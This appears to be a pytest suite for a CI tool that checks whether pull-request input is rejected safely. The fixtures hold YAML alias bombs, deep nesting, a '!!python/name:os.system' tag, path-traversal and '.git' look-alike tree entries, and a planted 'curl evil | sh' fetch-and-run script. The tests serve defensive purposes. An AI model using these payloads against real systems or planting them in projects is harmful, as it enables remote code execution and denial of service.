"""Hostile input a pull request controls (issue 25): the head's adapterci.yaml, its data rows. Each is refused
with exit 2 and a message naming the file and line, without a traceback and without writing anything."""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from adapterci.cli import cli
from adapterci.pr.materialize import unsafe_path

pytestmark = pytest.mark.timeout(120)

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8))

MILLION = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(  # 10^6 values once its aliases are expanded
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(5))


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
                          check=True, capture_output=True, text=True).stdout.strip()


@pytest.fixture
def repo(example_project: Path) -> Path:
    git(example_project, "add", "-A")
    git(example_project, "commit", "-qm", "base")
    return example_project


def open_pr(repo: Path, config_text: str) -> tuple[str, str]:
    """A PR that changes a data row and replaces adapterci.yaml by `config_text`; (base sha, head sha)."""
    base = git(repo, "rev-parse", "HEAD")
    git(repo, "checkout", "-qb", "pr")
    train = repo / "data" / "train.jsonl"
    train.write_text("\n".join(train.read_text().splitlines()[:-1]) + "\n")
    (repo / "adapterci.yaml").write_text(config_text)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "pr")
    head = git(repo, "rev-parse", "HEAD")
    git(repo, "checkout", "-q", "main")
    return base, head


def materialize(repo: Path, base: str, head: str, run_dir: Path):
    started = time.perf_counter()
    result = CliRunner().invoke(cli, ["pr", "materialize", "--config", str(repo / "adapterci.yaml"), "--head-repo",
                                      str(repo), "--head-sha", head, "--base-sha", base, "--run-dir", str(run_dir)])
    return result, time.perf_counter() - started


def bomb_in_train(text: str, bomb: str = BOMB) -> str:
    """The config with a 0.4 KB billion-laughs bomb under `train` (a key a PR may change)."""
    indented = "".join(f"    {line}\n" for line in bomb.splitlines())
    return text.replace("\ntrain:\n", "\ntrain:\n  bomb:\n" + indented, 1)


def million_in_train(text: str) -> str:
    """The config with a 10^6-node alias bomb under `train` (34 s and a 37 MB pr.json before the budget)."""
    return bomb_in_train(text, MILLION)


def deep_in_gate(text: str) -> str:
    """The config with `gate.rules` nested 1200 levels deep (a policy key: shown in the policy-change record)."""
    return text.replace("gate:\n  rules:\n", "gate:\n  rules: " + "[" * 1200 + "]" * 1200 + "\n  old_rules:\n")


@pytest.mark.parametrize("hostile, marker, says", [
    (bomb_in_train, "f: &f", "expands to more than 100,000 values"),
    (million_in_train, "e: &e", "expands to more than 100,000 values"),
    (deep_in_gate, "[[[", "nested more than 64 levels deep"),
])
def test_pr_materialize_refuses_a_hostile_head_config_in_time(repo: Path, tmp_path: Path, hostile, marker, says) -> None:
    train_before = (repo / "data" / "train.jsonl").read_bytes()
    config_before = (repo / "adapterci.yaml").read_bytes()
    base, head = open_pr(repo, hostile(config_before.decode()))
    run_dir = tmp_path / "run"
    result, seconds = materialize(repo, base, head, run_dir)
    assert seconds < 5, seconds
    assert result.exit_code == 2, result.output
    assert f"invalid config adapterci.yaml at {head[:12]}:" in result.output
    line = next(n for n, text in enumerate(hostile(config_before.decode()).splitlines(), 1) if marker in text)
    assert f"line {line}: YAML syntax error: " in result.output and says in result.output
    assert "Traceback" not in result.output
    assert not run_dir.exists()  # no pr.json, no report
    assert (repo / "data" / "train.jsonl").read_bytes() == train_before  # none of the PR's data taken
    assert (repo / "adapterci.yaml").read_bytes() == config_before


def config_commands() -> list[tuple[str, ...]]:
    """Every command that reads adapterci.yaml (has `--config`), as its words after `adapterci`."""
    ctx = click.Context(cli)

    def walk(group: click.Group, prefix: tuple[str, ...]):
        for name in group.list_commands(ctx):
            cmd = group.get_command(ctx, name)
            yield from walk(cmd, (*prefix, name)) if isinstance(cmd, click.Group) else \
                [(*prefix, name)] if any(p.name == "config_path" for p in cmd.params) else []

    return list(walk(cli, ()))


def test_every_command_refuses_a_million_node_alias_bomb_in_the_config_in_time(example_project: Path,
                                                                               tmp_path: Path) -> None:
    """A PR's adapterci.yaml reaches each command that reads the config (on the PR's own runner, and on the GPU
    runner after materialize): each refuses a 10^6-node alias bomb within 5 s, naming the file and line."""
    config = example_project / "adapterci.yaml"
    text = million_in_train(config.read_text())
    config.write_text(text)
    line = next(n for n, row in enumerate(text.splitlines(), 1) if row.lstrip().startswith("e: &e"))
    git(example_project, "add", "-A")
    git(example_project, "commit", "-qm", "the bomb on the default branch")
    sha = git(example_project, "rev-parse", "HEAD")
    commands = config_commands()
    assert {"check", "validate", "run", "train", "eval", "gate", "release", "canary", "materialize", "harvest",
            "ingest"} <= {
        c[-1] for c in commands}
    for command in commands:
        extra = ["--head-repo", str(example_project), "--head-sha", sha, "--base-sha", sha] \
            if command == ("pr", "materialize") else []
        if command == ("ingest",):  # its reviewed queue must exist: the config is what fails
            (tmp_path / "queue.jsonl").touch()
            extra = [str(tmp_path / "queue.jsonl")]
        started = time.perf_counter()
        result = CliRunner().invoke(cli, [*command, "--config", str(config), *extra])
        seconds = time.perf_counter() - started
        assert result.exit_code == 2 and seconds < 5, (command, seconds, result.output)
        assert f"invalid config {config}:" in result.output, (command, result.output)
        assert f"line {line}: YAML syntax error: the document expands to more than 100,000 values" in result.output
        assert "Traceback" not in result.output
    assert not (example_project / ".adapterci").exists()  # nothing written


def test_pr_materialize_refuses_a_head_config_that_is_not_a_mapping_or_not_utf8(repo: Path, tmp_path: Path) -> None:
    for text, says in (("- just\n- a list\n", "the top level must be a mapping of keys"),
                       ("name: !!python/name:os.system x\n", "line 1: YAML syntax error: explicit YAML tags")):
        git(repo, "checkout", "-q", "main")
        git(repo, "branch", "-qD", "pr") if "pr" in git(repo, "branch") else None
        base, head = open_pr(repo, text)
        result, _ = materialize(repo, base, head, tmp_path / "run")
        assert result.exit_code == 2 and says in result.output and "Traceback" not in result.output, result.output
        assert not (tmp_path / "run").exists()


def hostile_tree_commit(repo: Path, base: str, entry: str, name: str, content: bytes) -> str:
    """A head commit made with git plumbing (no checkout would create it): the base tree whose `data` tree also
    holds a tree entry `entry` leading to `name` (a `/`-separated path) with `content`; its sha."""
    def run(*args: str, stdin: bytes | None = None) -> str:
        return subprocess.run(["git", "-C", str(repo), *args], input=stdin, check=True, capture_output=True
                              ).stdout.decode().strip()

    obj = run("hash-object", "-w", "--stdin", stdin=content)
    *dirs, leaf = [entry, *name.split("/")]
    listing = f"100644 blob {obj}\t{leaf}\n"
    for parent in reversed(dirs):  # innermost first
        obj = run("mktree", stdin=listing.encode())
        listing = f"040000 tree {obj}\t{parent}\n"
    data = run("mktree", stdin=(run("ls-tree", f"{base}:data") + "\n" + listing).encode())
    top = "\n".join(line for line in run("ls-tree", base).splitlines() if not line.endswith("\tdata"))
    tree = run("mktree", stdin=f"{top}\n040000 tree {data}\tdata\n".encode())
    return run("-c", "user.name=t", "-c", "user.email=t@example.com", "commit-tree", tree, "-p", base, "-m", "pr")


@pytest.mark.parametrize("entry", ["..", ".", ".git", ".GIT", "git~1", ".git.", ".g\u200cit"])
def test_pr_materialize_refuses_a_tree_entry_that_leads_outside_data(repo: Path, tmp_path: Path, entry: str) -> None:
    """A head whose `data` tree holds an entry `..` wrote data/../.github/scripts/action-step.sh over the trusted
    script (rc 0). Any component git would not check out is refused (exit 2) before anything is written."""
    script = repo / ".github" / "scripts" / "action-step.sh"
    script.parent.mkdir(parents=True)
    script.write_text("echo trusted\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "the trusted action step")
    base = git(repo, "rev-parse", "HEAD")
    head = hostile_tree_commit(repo, base, entry, ".github/scripts/action-step.sh", b"curl evil | sh\n")
    path = f"data/{entry}/.github/scripts/action-step.sh"
    assert path in git(repo, "diff", "--name-only", "-z", base, head).split("\0")
    before = {p: p.read_bytes() for p in repo.rglob("*") if p.is_file() and ".git" not in p.relative_to(repo).parts}
    run_dir = tmp_path / "run"
    result, _ = materialize(repo, base, head, run_dir)
    assert result.exit_code == 2, result.output
    assert f"{path!r} (" in result.output  # an invisible character shown escaped
    assert "git would not check out" in result.output and "Nothing was written" in result.output
    assert "Traceback" not in result.output
    after = {p: p.read_bytes() for p in repo.rglob("*") if p.is_file() and ".git" not in p.relative_to(repo).parts}
    assert after == before and not run_dir.exists()
    assert entry in (".", "..") or not (repo / "data" / entry).exists()


def test_pr_materialize_writes_nothing_through_a_symlink_out_of_data(repo: Path, tmp_path: Path) -> None:
    """A directory symlink in the trusted checkout's data/ (here to .github) is never written through."""
    (repo / ".github").mkdir()
    (repo / "data" / "ci").symlink_to("../.github")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "main links data/ci")
    base = git(repo, "rev-parse", "HEAD")
    git(repo, "checkout", "-qb", "pr")
    (repo / "data" / "ci").unlink()
    (repo / "data" / "ci").mkdir()
    (repo / "data" / "ci" / "run.sh").write_text("curl evil | sh\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "pr")
    head = git(repo, "rev-parse", "HEAD")
    git(repo, "checkout", "-q", "main")
    result, _ = materialize(repo, base, head, tmp_path / "run")
    assert result.exit_code == 2 and "symlink in the trusted checkout" in result.output, result.output
    assert "Nothing was written" in result.output and "Traceback" not in result.output
    assert (repo / "data" / "ci").is_symlink() and not (repo / ".github" / "run.sh").exists()
    assert not (tmp_path / "run").exists()


@pytest.mark.parametrize("path, why", [
    ("data/../x", "has a component '..'"), ("data/./x", "has a component '.'"), ("data//x", "has a component ''"),
    ("data/.Git/config", "component '.Git' names .git"), ("data/GIT~1/config", "component 'GIT~1' names .git"),
    ("data/.git. . /x", "component '.git. . ' names .git"), ("data/.git::$INDEX_ALLOCATION/x", "names .git"),
    ("data/.\ufeffgit/x", "names .git"), ("data/train.jsonl", None), ("data/.gitkeep", None),
    ("data/..x/y.jsonl", None), ("data/git~2", None)])
def test_unsafe_path(path: str, why: str | None) -> None:
    assert (unsafe_path(path) is None) if why is None else why in unsafe_path(path)


def test_hub_emulator_refuses_a_model_card_alias_bomb_in_time() -> None:
    """A model card's front matter (released from a run a PR fed) goes through the same budgeted loader."""
    from adapterci.hub_emulator.cardmeta import front_matter

    started = time.perf_counter()
    with pytest.raises(ValueError, match=r"metadata is not valid YAML \(line \d+\): the document expands"):
        front_matter("---\n" + BOMB + "---\n# card\n")
    assert time.perf_counter() - started < 5
    assert front_matter("---\nbase_model: org/base\ntags: [lora]\n---\n") == {"base_model": "org/base", "tags": ["lora"]}


def test_check_does_not_tokenize_rows_already_over_max_chars(example_project: Path) -> None:
    """A row longer than `checks.max_chars` fails `schema` with its file and line; it is neither rendered nor
    tokenized (a 27 MB file of such rows took 110 s and 3.5 GB in the token-length check)."""
    train = example_project / "data" / "train.jsonl"
    first = len(train.read_bytes().splitlines()) + 1
    long = "The room was lovely and the staff were kind. " * 1000  # 45,000 characters > max_chars 32,000
    with train.open("a") as f:
        for label in ("positive", "negative"):
            f.write(json.dumps({"instruction": "Classify the review.", "input": long, "output": label}) + "\n")
    result = CliRunner().invoke(cli, ["check", "--config", str(example_project / "adapterci.yaml"), "--json"])
    assert result.exit_code == 1, result.output
    report = json.loads(result.output)
    by_name = {c["name"]: c for c in report["checks"]}
    schema = [(f["file"], f["line"]) for f in by_name["schema"]["failures"]]
    assert schema == [("data/train.jsonl", first), ("data/train.jsonl", first + 1)]
    assert by_name["token_length"]["passed"]  # not tokenized, so not reported twice
    record = json.loads((example_project / ".adapterci" / "run" / "check" / "check.json").read_text())
    token_length = next(c for c in record["checks"] if c["name"] == "token_length")
    assert token_length["details"]["over_max_chars"] == 2
    assert token_length["details"]["tokenized"] <= token_length["details"]["rows"] - 2
    assert "2 longer than `checks.max_chars` not tokenized" in token_length["summary"]


def test_a_row_of_100k_nested_brackets_is_a_row_error(example_project: Path) -> None:
    """json.loads raised RecursionError on it (an internal error); it is a problem of its row, like malformed JSON."""
    train = example_project / "data" / "train.jsonl"
    line = len(train.read_bytes().splitlines()) + 1
    with train.open("a") as f:
        f.write("[" * 100_000 + "]" * 100_000 + "\n")
        f.write(json.dumps({"instruction": "Classify.", "input": "ok", "output": "positive",
                            "meta": json.loads("[" * 40 + "]" * 40)}) + "\n")
    started = time.perf_counter()
    result = CliRunner().invoke(cli, ["check", "--config", str(example_project / "adapterci.yaml"), "--json"])
    assert time.perf_counter() - started < 60
    assert result.exit_code == 1, result.output
    schema = next(c for c in json.loads(result.output)["checks"] if c["name"] == "schema")["failures"]
    assert [(f["file"], f["line"], f["message"]) for f in schema] == [
        ("data/train.jsonl", line, "nested more than 32 levels deep"),
        ("data/train.jsonl", line + 1, "nested more than 32 levels deep")]
